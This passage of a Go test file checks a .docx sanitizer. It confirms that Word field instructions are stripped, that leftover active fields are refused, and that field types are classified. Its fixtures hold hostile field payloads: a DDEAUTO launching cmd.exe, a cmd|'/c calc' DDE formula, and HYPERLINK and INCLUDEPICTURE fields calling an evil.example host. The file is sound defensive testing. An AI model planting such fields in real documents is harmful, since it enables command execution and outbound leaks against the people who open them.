		if strings.Contains(typ, "binary") {
			t.Errorf("Types claims %s", typ)
		}
	}
}

// The extracted text shows what Word showed (field results), never the
// instruction behind it.
func TestExtractFields(t *testing.T) {
	in := wordPkg(t, para(fld("資料はこちら", `HYPERLINK "\\\\evil.example\\share\\x.lnk"`))+para(`<w:fldSimple w:instr="INCLUDEPICTURE http://evil.example/p.png"><w:r><w:t>図</w:t></w:r></w:fldSimple>`)+
		para(fld("結果", `DDEAUTO c:\\windows\\system32\\cmd.exe "/c calc"`)), nil, "", "")
	var out bytes.Buffer
	if _, err := (&Extractor{}).Sanitize(context.Background(), format.Part{Filename: "a.docx"}, bytes.NewReader(in), &out); err != nil {
		t.Fatal(err)
	}
	text := out.String()
	for _, bad := range []string{"evil", "HYPERLINK", "DDE", "cmd", "\\\\"} {
		if strings.Contains(text, bad) {
			t.Errorf("text shows %q: %q", bad, text)
		}
	}
	for _, good := range []string{"資料はこちら", "図", "結果"} {
		if !strings.Contains(text, good) {
			t.Errorf("text lacks %q: %q", good, text)
		}
	}
}

// The verifier refuses a package in which an active field is left, even
// if the removal passes missed it.
func TestVerifyRefusesFields(t *testing.T) {
	in := wordPkg(t, para(fld("x", "PAGE")), nil, "", "")
	parts := unpack(t, in)
	parts["word/document.xml"] = strings.Replace(parts["word/document.xml"], "PAGE", "DDEAUTO a b", 1)
	if err := verify(members(parts)); err == nil {
		t.Error("verify passed a DDE field")
	}
	parts["word/document.xml"] = strings.Replace(parts["word/document.xml"], "DDEAUTO a b", "PAGE", 1)
	if err := verify(members(parts)); err != nil {
		t.Errorf("verify refused a PAGE field: %v", err)
	}
}

func TestJudgeField(t *testing.T) {
	for instr, want := range map[string]string{
		" PAGE ": "", "PAGE": "", `PAGE \* MERGEFORMAT`: "", "=SUM(ABOVE)": "", `HYPERLINK \l "a"`: "",
		"PAGEX": whatOddField, "": whatOddField, "MACROBUTTON x": whatOddField, "PRINT x": whatOddField,
		`"ddeauto" x`: whatDDE, `\\\dde x`: whatDDE, "DDE\u00a0x": whatDDE, `cmd|'/c calc'!A0`: whatDDE,
		"PAGE LINK": whatOddField, "REF x QUOTE": whatOddField, "includepicture x": whatInclude, "DATABASE x": whatInclude,
		`HYPERLINK "https://a.example/"`: whatWebLink, `HYPERLINK mailto:a@b`: whatWebLink, `HYPERLINK "https:\\\\h\\s"`: whatOddLink,
		`HYPERLINK "unterminated`: whatOddLink, `HYPERLINK a b`: whatOddLink, `HYPERLINK \x a`: whatOddLink,
	} {
		if got := judgeField(instr); got != want {
			t.Errorf("judgeField(%q) = %q, want %q", instr, got, want)
		}
	}
}

func members(parts map[string]string) []archiveMember {
	var out []archiveMember
	for _, k := range sortedKeys(parts) {
		out = append(out, archiveMember{Name: k, Data: []byte(parts[k])})
	}
	return out
}

// fuzzWrap turns fuzz input that is not a zip into the document part of a
// package, so that the fuzzer works on the XML the field scan reads.
func fuzzWrap(t testing.TB, data []byte) []byte {
	if bytes.HasPrefix(data, []byte("PK")) {
		return data
	}
	return pkg(t, map[string]string{
		"[Content_Types].xml":          ctHead + `</Types>`,
		"_rels/.rels":                  `<Relationships ` + relNS + `>` + relEl("rId1", "officeDocument", "word/document.xml") + `</Relationships>`,
		"word/document.xml":            string(data),
		"word/_rels/document.xml.rels": `<Relationships ` + relNS + `>` + relEl("rIdA", "aFChunk", "a.mht") + `</Relationships>`,
		"word/a.mht":                   "x",
	})
}

// unpackAny is unpack without failing the test on a bad zip.
func unpackAny(b []byte) (map[string]string, error) {
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		return nil, err
	}
	out := map[string]string{}
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			return nil, err
		}
		b, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			return nil, err
		}
		out[f.Name] = string(b)
	}
	return out, nil
}

type archiveMember = archive.Member
